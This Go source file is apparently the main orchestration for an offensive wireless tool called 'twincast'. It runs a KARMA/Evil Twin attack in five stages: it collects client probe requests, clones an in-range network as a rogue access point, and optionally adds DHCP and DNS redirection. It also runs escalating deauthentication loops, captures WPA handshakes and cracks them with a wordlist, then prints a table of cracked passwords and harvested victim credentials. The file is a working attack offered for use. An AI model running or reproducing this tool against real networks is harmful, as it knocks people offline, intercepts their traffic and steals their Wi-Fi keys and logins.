package main

import (
	"context"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	colo "github.com/fatih/color"
	"github.com/rodaine/table"
	"golang.org/x/exp/maps"
	"golang.org/x/exp/slices"

	"twincast/libs"
	"twincast/libs/confreader"
	"twincast/libs/deauth"
	"twincast/libs/frames"
	"twincast/libs/harvest"
	"twincast/libs/handshake"
	"twincast/libs/iface"
	"twincast/libs/proc"
	"twincast/libs/restore"
	"twincast/libs/rogue"
	"twincast/libs/werr"
)

// SSIDs seeded when probe capture comes up short
var fallbackSsids = []string{
	"linksys", "netgear", "dlink", "belkin", "asus", "tp-link",
	"wifi", "wireless", "internet", "home", "office", "guest",
	"admin", "default", "router", "modem", "attwifi", "xfinitywifi",
	"Verizon_WiFi", "SpectrumWiFi", "CoxWiFi", "CenturyLinkWiFi",
}

type karmaSession struct {
	color libs.Colors
	conf  confreader.Config

	probeIface    string
	rogueIface    string
	resolvedProbe string

	ifaces   *iface.Manager
	registry *proc.Registry
	cleanup  *restore.Controller

	mu                 sync.Mutex
	clientMu           sync.Mutex
	pnl                map[string]struct{}
	realNetworks       []libs.Network
	connectedClients   map[string]bool
	capturedHandshakes map[string]string
	crackedPasswords   map[string]string
	harvested          map[string][]harvest.Credential
	deauthIntensity    map[string]int
	fallbackMode       bool

	running atomic.Bool
	cancel  context.CancelFunc
	wg      sync.WaitGroup

	rogueCtl    *rogue.Controller
	pipeline    *handshake.Pipeline
	harvester   *harvest.Harvester
	primary     libs.Network
	started     time.Time
	resultsOnce sync.Once
	out         io.Writer
}

func newSession(color libs.Colors, conf confreader.Config, probeIface string, rogueIface string) *karmaSession {
	if rogueIface == "" {
		rogueIface = probeIface
	}
	s := &karmaSession{
		color:              color,
		conf:               conf,
		probeIface:         probeIface,
		rogueIface:         rogueIface,
		ifaces:             iface.NewManager(),
		registry:           proc.NewRegistry(),
		pnl:                make(map[string]struct{}),
		connectedClients:   make(map[string]bool),
		capturedHandshakes: make(map[string]string),
		crackedPasswords:   make(map[string]string),
		harvested:          make(map[string][]harvest.Credential),
		deauthIntensity:    make(map[string]int),
		out:                os.Stdout,
	}
	s.cleanup = &restore.Controller{
		Color:       color,
		Registry:    s.registry,
		Ifaces:      s.ifaces,
		Interfaces:  []string{probeIface, rogueIface},
		DNSSpoofing: conf.DNSSpoofing,
		SingleRadio: s.singleRadio(),
		Stop:        s.stop,
	}
	return s
}

func (s *karmaSession) singleRadio() bool {
	return iface.CleanName(s.probeIface) == iface.CleanName(s.rogueIface)
}

// stop flips running exactly once and cancels every loop
func (s *karmaSession) stop() {
	if !s.running.CompareAndSwap(true, false) {
		return
	}
	if s.cancel != nil {
		s.cancel()
	}
	done := make(chan struct{})
	go func() {
		s.wg.Wait()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
	}
}

func (s *karmaSession) isRunning() bool {
	return s.running.Load()
}

func (s *karmaSession) run(ctx context.Context) error {
	ctx, cancel := context.WithCancel(ctx)
	s.cancel = cancel
	defer cancel()
	s.running.Store(true)
	s.started = time.Now()

	libs.Stage(s.color, "Stage 1: harvesting preferred networks from probe requests")
	if err := s.capturePNL(ctx); err != nil {
		libs.Warning(s.color, "Probe capture short: "+err.Error())
		s.enterFallback()
	}

	if !s.isRunning() {
		return nil
	}
	libs.Stage(s.color, "Stage 2: discovering in-range networks")
	if err := s.discoverNetworks(ctx); err != nil {
		libs.Warning(s.color, "Discovery empty: "+err.Error())
		s.enterFallback()
	}

	if !s.isRunning() {
		return nil
	}
	libs.Stage(s.color, "Stage 3: starting Evil Twin")
	if err := s.setupRogueAP(ctx); err != nil {
		libs.Error(s.color, "Rogue AP startup failed: "+err.Error())
		return err
	}

	libs.Stage(s.color, "Stage 4: deauth escalation and capture loops")
	s.startEscalators(ctx)
	s.startPipeline(ctx)
	s.startContinuousProbes(ctx)

	libs.Stage(s.color, "Stage 5: monitoring for victims")
	s.monitorConnections(ctx)
	return nil
}

// capturePNL runs the timed probe window against the monitor-mode
// probe interface, parsing every new capture file natively.
func (s *karmaSession) capturePNL(ctx context.Context) error {
	if !s.ifaces.Acquire(s.probeIface, "probe-capture", 5*time.Second) {
		return werr.New(werr.LockTimeout, "probe interface busy")
	}
	resolved, err := s.ifaces.SetMode(s.probeIface, iface.ModeMonitor)
	s.ifaces.Release(s.probeIface)
	if err != nil {
		return err
	}
	s.resolvedProbe = resolved
	var prefix string = filepath.Join(s.conf.WorkDir, "pnl")
	libs.Rtexec(exec.Command("bash", "-c", "mkdir -p "+s.conf.WorkDir))
	var window time.Duration = time.Duration(s.conf.ProbeWindowSeconds) * time.Second
	handle, err := s.registry.Background("airodump:pnl", window+30*time.Second, "airodump-ng",
		"--write", prefix,
		"--output-format", "pcap",
		resolved)
	if err != nil {
		return err
	}
	defer func() {
		handle.Stop(2 * time.Second)
		s.registry.Unregister(handle)
	}()

	var deadline time.Time = time.Now().Add(window)
	var parsedOffset map[string]int = make(map[string]int)
	for time.Now().Before(deadline) && s.isRunning() {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(5 * time.Second):
		}
		matches, _ := filepath.Glob(prefix + "-*.cap")
		for _, capFile := range matches {
			probes, err := frames.ExtractProbes(capFile)
			if err != nil {
				continue
			}
			// Re-parsed files only contribute their tail
			for _, probe := range probes[min(parsedOffset[capFile], len(probes)):] {
				s.addProbe(probe)
			}
			parsedOffset[capFile] = len(probes)
		}
		if s.pnlSize() >= s.conf.MinProbes {
			libs.Success(s.color, "PNL complete: "+strconv.Itoa(s.pnlSize())+" networks")
			return nil
		}
	}
	if s.pnlSize() >= s.conf.MinProbes {
		return nil
	}
	return werr.Newf(werr.CaptureInsufficientData, "%d probed networks, wanted %d", s.pnlSize(), s.conf.MinProbes)
}

func (s *karmaSession) addProbe(probe libs.Probe) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, known := s.pnl[probe.Ssid]; !known {
		s.pnl[probe.Ssid] = struct{}{}
		libs.Log(s.color, "Probe: "+s.color.Green+probe.Client+s.color.White+" looking for "+s.color.Cyan+probe.Ssid+s.color.White)
	}
}

func (s *karmaSession) pnlSize() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.pnl)
}

func (s *karmaSession) pnlSnapshot() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var ssids []string = maps.Keys(s.pnl)
	slices.Sort(ssids)
	return ssids
}

// enterFallback seeds the PNL with default-named SSIDs instead of failing
func (s *karmaSession) enterFallback() {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.fallbackMode {
		return
	}
	s.fallbackMode = true
	for _, ssid := range fallbackSsids {
		s.pnl[ssid] = struct{}{}
	}
	libs.Warning(s.color, "Fallback mode: seeded "+strconv.Itoa(len(fallbackSsids))+" common SSIDs")
}

// discoverNetworks runs the scan window and keeps networks that have
// at least one client and a usable name.
func (s *karmaSession) discoverNetworks(ctx context.Context) error {
	var prefix string = filepath.Join(s.conf.WorkDir, "scan")
	var window time.Duration = time.Duration(s.conf.ScanWindowSeconds) * time.Second
	handle, err := s.registry.Background("airodump:scan", window+30*time.Second, "airodump-ng",
		"--write", prefix,
		"--output-format", "csv",
		s.resolvedProbe)
	if err != nil {
		return err
	}
	loading := make(chan bool)
	go libs.Loading("Scanning for networks", loading)
	select {
	case <-ctx.Done():
		loading <- true
		handle.Stop(time.Second)
		return ctx.Err()
	case <-time.After(window):
	}
	loading <- true
	handle.Stop(2 * time.Second)
	s.registry.Unregister(handle)

	matches, _ := filepath.Glob(prefix + "-*.csv")
	var networks []libs.Network
	for _, csvFile := range matches {
		if text, err := readFile(csvFile); err == nil {
			networks = append(networks, parseScanCSV(text)...)
		}
	}
	networks = keepCloneTargets(s.color, networks)
	s.mu.Lock()
	s.realNetworks = networks
	s.mu.Unlock()
	if len(networks) == 0 {
		return werr.New(werr.CaptureInsufficientData, "no networks with active clients")
	}
	libs.Success(s.color, strconv.Itoa(len(networks))+" clone candidates found")
	return nil
}

// setupRogueAP selects and clones the target, aborting the session on
// startup failure.
func (s *karmaSession) setupRogueAP(ctx context.Context) error {
	s.mu.Lock()
	var networks []libs.Network = append([]libs.Network{}, s.realNetworks...)
	var fallback bool = s.fallbackMode
	s.mu.Unlock()

	primary, found := rogue.SelectTarget(networks, s.conf.Target)
	if !found {
		if !fallback {
			s.enterFallback()
		}
		// Nothing real in range: host the most tempting probed SSID
		var ssids []string = s.pnlSnapshot()
		if len(ssids) == 0 {
			return werr.New(werr.CaptureInsufficientData, "nothing to clone")
		}
		primary = libs.Network{Essid: ssids[0], Channel: 6}
	}
	s.primary = primary
	libs.Log(s.color, "Cloning "+s.color.Green+primary.Essid+s.color.White+" (score "+strconv.Itoa(rogue.Score(primary))+")")

	if !s.ifaces.Acquire(s.rogueIface, "rogue-ap", 5*time.Second) {
		return werr.New(werr.LockTimeout, "rogue interface busy")
	}
	defer s.ifaces.Release(s.rogueIface)

	s.rogueCtl = &rogue.Controller{
		Color:    s.color,
		Registry: s.registry,
		Ifaces:   s.ifaces,
		WorkDir:  s.conf.WorkDir,
		Gateway:  s.conf.GatewayIP,
	}
	var extra []string
	for _, ssid := range s.pnlSnapshot() {
		if ssid != primary.Essid {
			extra = append(extra, ssid)
		}
	}
	if err := s.rogueCtl.Start(s.rogueIface, primary, extra, s.spareRadios()); err != nil {
		if werror, ok := err.(*werr.Error); ok && werror.Kind == werr.ToolStartupFailed {
			for _, hint := range rogue.Hints(werror.Stderr) {
				libs.Warning(s.color, "Hint: "+hint)
			}
		}
		return err
	}
	s.cleanup.ConfigFiles = s.rogueCtl.ConfFiles
	if s.conf.DNSSpoofing {
		if err := s.rogueCtl.StartDHCP(iface.CleanName(s.rogueIface), s.conf.DHCPRangeStart, s.conf.DHCPRangeEnd); err != nil {
			return err
		}
		s.rogueCtl.EnableRedirect(iface.CleanName(s.rogueIface))
		s.cleanup.ConfigFiles = s.rogueCtl.ConfFiles
	}
	return nil
}

// spareRadios lists wireless interfaces beyond the probe/rogue pair that
// could host additional twins.
func (s *karmaSession) spareRadios() []string {
	var spares []string
	for _, dev := range libs.ShowIfaces() {
		var base string = iface.CleanName(dev.Name)
		if base == iface.CleanName(s.probeIface) || base == iface.CleanName(s.rogueIface) {
			continue
		}
		if libs.MonSupportCheck(dev.Name) {
			spares = append(spares, dev.Name)
		}
	}
	return spares
}

// startEscalators launches one adaptive deauth loop per cloned real network
func (s *karmaSession) startEscalators(ctx context.Context) {
	s.mu.Lock()
	var targets []libs.Network
	if s.primary.Bssid != "" {
		targets = append(targets, s.primary)
	}
	s.mu.Unlock()
	for _, network := range targets {
		network := network
		escalator := deauth.New(s.color, s.resolvedProbe, network, s.connectedCount, s.recordIntensity)
		s.wg.Add(1)
		go func() {
			defer s.wg.Done()
			escalator.Run(ctx)
		}()
	}
}

func (s *karmaSession) recordIntensity(bssid string, intensity int) {
	s.mu.Lock()
	s.deauthIntensity[bssid] = intensity
	s.mu.Unlock()
}

func (s *karmaSession) startPipeline(ctx context.Context) {
	var apIface string = iface.CleanName(s.rogueIface)
	bssid, _ := rogue.ResolveBSSID(apIface, s.rogueCtl.PrimaryConfPath())
	s.pipeline = handshake.NewPipeline(s.color, apIface, bssid, s.primary.Channel, s.conf.WorkDir)
	s.pipeline.MaxConcurrent = s.conf.MaxConcurrentCaps
	s.pipeline.MaxAttempts = s.conf.MaxAttemptsPerClient
	s.pipeline.Window = time.Duration(s.conf.CaptureWindowSeconds) * time.Second
	s.pipeline.Wordlist = s.conf.Wordlist
	s.pipeline.Registry = s.registry
	s.pipeline.IsConnected = s.isConnected
	s.pipeline.OnHandshake = s.recordHandshake
	s.pipeline.OnCracked = s.recordCracked
	s.harvester = harvest.New(s.color, apIface, s.conf.WorkDir, s.registry)
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		s.pipeline.Run(ctx)
	}()
}

func (s *karmaSession) connectedCount() int {
	s.clientMu.Lock()
	defer s.clientMu.Unlock()
	return len(s.connectedClients)
}

func (s *karmaSession) isConnected(mac string) bool {
	s.clientMu.Lock()
	defer s.clientMu.Unlock()
	return s.connectedClients[mac]
}

func (s *karmaSession) recordHandshake(mac string, capFile string) {
	s.mu.Lock()
	s.capturedHandshakes[mac] = capFile
	s.mu.Unlock()
	libs.Success(s.color, "Handshake captured from "+s.color.Green+mac+s.color.White)
}

func (s *karmaSession) recordCracked(mac string, key string) {
	s.mu.Lock()
	s.crackedPasswords[mac] = key
	s.mu.Unlock()
}

// startContinuousProbes keeps feeding the PNL while the twin runs.
// Only viable with two radios: on a shared radio the monitor handle
// dies the moment the AP-mode switch lands.
func (s *karmaSession) startContinuousProbes(ctx context.Context) {
	if s.singleRadio() {
		return
	}
	handle, failed := frames.OpenMonitorHandle(s.resolvedProbe)
	if failed {
		libs.Warning(s.color, "Continuous probe capture unavailable on "+s.resolvedProbe)
		return
	}
	stop := make(chan struct{})
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		defer handle.Close()
		go func() {
			<-ctx.Done()
			close(stop)
		}()
		frames.WatchProbes(handle, stop, s.addProbe)
	}()
}

// showFinalResults prints the session summary table. Latched: both the
// q-key path and main's exit path call it, only the first one prints.
func (s *karmaSession) showFinalResults() {
	s.resultsOnce.Do(s.renderResults)
}

func (s *karmaSession) renderResults() {
	s.clientMu.Lock()
	var connected int = len(s.connectedClients)
	s.clientMu.Unlock()
	s.mu.Lock()
	defer s.mu.Unlock()
	fmt.Fprintln(s.out)
	headerFmt := colo.New(colo.FgGreen, colo.Underline).SprintfFunc()
	columnFmt := colo.New(colo.FgYellow).SprintfFunc()
	tbl := table.New("Result", "Count", "Detail")
	tbl.WithWriter(s.out).WithHeaderFormatter(headerFmt).WithFirstColumnFormatter(columnFmt)
	var handshakeDetail []string
	for mac, capFile := range s.capturedHandshakes {
		handshakeDetail = append(handshakeDetail, mac+": "+capFile)
	}
	slices.Sort(handshakeDetail)
	var crackedDetail []string
	for mac, key := range s.crackedPasswords {
		crackedDetail = append(crackedDetail, mac+": "+key)
	}
	slices.Sort(crackedDetail)
	var credentialCount int
	for _, credentials := range s.harvested {
		credentialCount += len(credentials)
	}
	tbl.AddRow("Handshakes", len(s.capturedHandshakes), strings.Join(handshakeDetail, ", "))
	tbl.AddRow("Cracked passwords", len(s.crackedPasswords), strings.Join(crackedDetail, ", "))
	tbl.AddRow("Harvested credentials", credentialCount, "")
	tbl.AddRow("Clients connected", connected, "")
	tbl.AddRow("PNL networks", len(s.pnl), "")
	tbl.Print()
	fmt.Fprintln(s.out)
}
